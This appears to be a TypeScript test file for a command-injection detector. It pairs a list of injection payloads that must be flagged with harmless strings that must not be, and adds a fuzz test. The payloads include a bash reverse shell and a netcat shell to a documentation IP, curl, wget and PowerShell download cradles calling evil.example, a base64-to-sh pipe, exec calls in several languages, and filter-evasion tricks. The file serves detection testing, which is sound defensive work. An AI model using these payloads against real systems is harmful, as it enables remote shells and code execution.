import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { fuzzRuns } from '../../../test/support/fuzz-runs.ts'
import type { AttackContext } from '../attack.ts'
import { isAttack, rulesOf } from '../fixtures.ts'

const attacks: readonly (readonly [how: string, value: string, context?: AttackContext])[] = [
  ['behind a semicolon', 'x; cat /etc/hostname'],
  ['behind a semicolon, alone', '127.0.0.1;id'],
  ['behind a pipe', 'x|whoami'],
  ['behind an or', 'x || ping -c 4 evil.example'],
  ['behind an and', 'x && curl http://evil.example/a'],
  ['behind an ampersand', 'x & dir c:\\'],
  ['behind a line break', 'x\nwget http://evil.example/a'],
  ['with variables set before it', 'x; sudo cat /root/a'],
  ['in a substitution', '$(whoami)'],
  ['in a substitution, with a path', 'x$(/usr/bin/id)y'],
  ['in backticks', '`uname -a`'],
  ['in a process substitution', 'x <(curl evil.example)'],
  ['out of quotes', '"; ls -la; echo "'],
  ['with quotes in its name', "x;w'h'oami"],
  ['with escapes in its name', 'x;c\\at /etc/hostname'],
  ['with empty expansions in its name', 'x;who$@ami'],
  ['with carets in its name', 'x&w^hoami'],
  ['with blanks by a variable', ';cat${IFS}/tmp/x'],
  ['with blanks by braces', ';{cat,/tmp/x}'],
  ['with blanks by a redirection', ';cat</tmp/x'],
  ['by wildcards', ';/b?n/c?t /tmp/x'],
  ['with a slash by a variable', 'cat ${HOME:0:1}tmp${HOME:0:1}x'],
  ['handed to a shell', 'echo aWQ=|base64 -d|sh'],
  ['to a socket', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
  ['with netcat', ';nc -e /bin/sh 192.0.2.1 4444'],
  ['as a whole', 'ping -n 30 192.0.2.1'],
  ['as the path of a program', '/usr/bin/whoami'],
  ['for cmd.exe', 'x & cmd /c type c:\\x.txt'],
  ['for PowerShell', 'powershell -enc SQBFAFgA'],
  [
    'for PowerShell, from elsewhere',
    "iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
  ],
  ['as an include of a server', '<!--#exec cmd="ls" -->'],
  ['in PHP', '<?php system($_GET[0]); ?>'],
  ['in PHP, a call', ";system('id')"],
  ['in Java', 'Runtime.getRuntime().exec("id")'],
  ['in Python', "__import__('os').popen('id').read()"],
  ['in Node', "require('child_process').execSync('id')"],
  ['in Ruby', "IO.popen('id').read"],
]

const harmless: readonly (readonly [value: string, context?: AttackContext])[] = [
  ['id'],
  ['name|id|type'],
  ['sort=id;type=date'],
  ['text/html; charset=utf-8', 'header'],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'header'],
  ['curl/8.5.0', 'header'],
  ['Tom & Jerry; who else?'],
  ['AT&T'],
  ['a & b | c'],
  ['R&D; see the cat'],
  ['sed & awk'],
  ['fish & chips; find the time'],
  ['x=1&id=2&type=3'],
  ['first line\nfind the second line\nmore of it', 'body'],
  ['cat'],
  ['my cat sleeps'],
  ['Read more; set the date'],
  ['$(document).ready'],
  ['${name} and $(name)', 'body'],
  ['The command `ls -la` shows all of the files in a folder, and `cat` the content of one of them.', 'body'],
  [
    'Run `curl https://example.org/install.sh | sh` to install it, if you trust the people who wrote it and know what it does.',
    'body',
  ],
  ['/usr/share/doc/x'],
  ['price < 10; size > 5'],
  ['Tom; id 17'],
  ['/bin/bash', 'body'],
  ['tsc && node dist/index.js', 'body'],
  ['rm -rf dist && npm run build', 'body'],
  ['process.env.NODE_ENV', 'body'],
  ['C:\\Windows\\System32\\cmd.exe', 'body'],
  ['`npm install`', 'body'],
  ['Run `npm start`', 'body'],
  ['#!/bin/bash', 'body'],
  ['The backtick syntax `date` is old; $(date) is better.', 'body'],
  ['max-age=0; path=/; HttpOnly', 'header'],
  ['https://example.org/a?b=1&id=2&ls=3'],
]

test('what a shell or an interpreter would run is an attack', () => {
  for (const [how, value, context] of attacks) {
    assert.ok(isAttack(value, context), `${how}: ${value}`)
    assert.ok(
      rulesOf(value, context).some((rule) => rule.startsWith('command.')),
      `${how}: ${rulesOf(value, context).join(' ')}`,
    )
  }
})

test('talk about shells, lists and headers is none', () => {
  for (const [value, context] of harmless)
    assert.ok(!isAttack(value, context), `${value}: ${rulesOf(value, context).join(' ')}`)
})

test('any text is judged without an error', () => {
  const pieces = fc.constantFrom(
    ';',
    '|',
    '&',
    '`',
    '$(',
    '${',
    '}',
    ')',
    "'",
    '"',
    '\\',
    '^',
    '*',
    '?',
    '[',
    '/',
    'cat',
    'id',
    '$@',
    '$IFS',
    ' ',
    '\n',
    '+',
    'system(',
    'é',
    '\0',
  )
  const text = fc.oneof(
    fc.string({ unit: 'binary-ascii' }),
    fc.array(pieces).map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(text, (value) => {
      assert.deepEqual(rulesOf(value), rulesOf(value))
    }),
    { numRuns: fuzzRuns },
  )
})
